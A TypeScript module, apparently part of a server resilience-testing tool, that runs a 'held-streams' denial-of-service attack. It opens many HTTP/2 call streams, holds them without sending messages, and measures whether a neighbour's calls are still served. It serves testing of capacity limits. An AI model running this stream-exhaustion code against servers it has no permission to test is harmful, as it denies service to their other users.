import { setTimeout as sleep } from "node:timers/promises";
import { type Attack, DEFAULT_LIMITS, PATIENCE, type Target } from "./attack";
import { Budget, type Ended } from "./budget";
import { beginNeighbour, Connection } from "./connection";
import { headerFrames } from "./frames";
import { callFields, encode } from "./headers";
import { endOfAll } from "./overHttp2";

/** Connections of the attacker; fewer where a pod takes few calls, of which each connection may have more than its share. */
const CONNECTIONS = 10;

/** A connection gets no larger part of what a pod takes: half of it is left for the others. */
const SHARE = 2 * CONNECTIONS;

/** Calls of someone else, while the attacker holds all that it can. */
const OTHERS_CALLS = 50;
/** Milliseconds between them: an Envoy that is short of CPU takes a second for as many calls as an attacker begins at once. */
const PAUSE = 20;

/** Milliseconds until the attacker's calls have reached the server. */
const SETTLED = 300;

export const heldStreams: Attack = {
  name: "held-streams",
  about: `as many calls as ${CONNECTIONS} connections may have, begun and held without a message`,
  // Before the longest call's time is up.
  endsWith: ["answered", "stream reset"],
  needs: "capacity",
  async run(target, limits = DEFAULT_LIMITS) {
    const { calls, requestTimeout } = target.capacity ?? { calls: 0, requestTimeout: 0 };
    const budget = new Budget({ ...limits, milliseconds: limits.milliseconds + requestTimeout });
    const held: Connection[] = [];
    let streams = 0;
    let neighbour: Ended["neighbour"];
    try {
      const ends: Promise<Ended>[] = [];
      for (let count = 0; count < Math.min(CONNECTIONS, Math.max(1, Math.floor(calls / SHARE))); count += 1) {
        const connection = await Connection.open(target, budget);
        if ("refused" in connection) break;
        held.push(connection);
        const own = await hold(connection, calls);
        streams += own.length;
        ends.push(endOfAll(connection, own, requestTimeout + PATIENCE));
      }
      await sleep(SETTLED);
      neighbour = await callAsSomeoneElse(target, budget);
      const ended = await Promise.all(ends);
      const { endedBy, details } = ended.find((one) => one.endedBy === "still open") ??
        ended.at(-1) ?? { endedBy: "refused" };
      return budget.result(heldStreams.name, { endedBy, details: { ...details, streams }, neighbour });
    } finally {
      held.forEach((connection) => connection.close());
    }
  },
};

/** Begins as many calls as the connection allows, all in one write. @returns their streams */
async function hold(connection: Connection, most: number): Promise<number[]> {
  const block = encode(callFields());
  const streams = Array.from({ length: Math.min(connection.maxStreams, most) }, () => connection.nextStream());
  await connection.send(...streams.map((stream) => headerFrames(stream, block, false)));
  return streams;
}

/** Calls one after the other over a connection of their own. */
async function callAsSomeoneElse(target: Target, budget: Budget): Promise<"served" | "lost"> {
  const connection = await Connection.open(target, budget);
  if ("refused" in connection) return "lost";
  try {
    for (let call = 0; call < OTHERS_CALLS; call += 1) {
      if ((await (await beginNeighbour(connection))()) === "lost") return "lost";
      await sleep(PAUSE);
    }
    return "served";
  } finally {
    connection.close();
  }
}
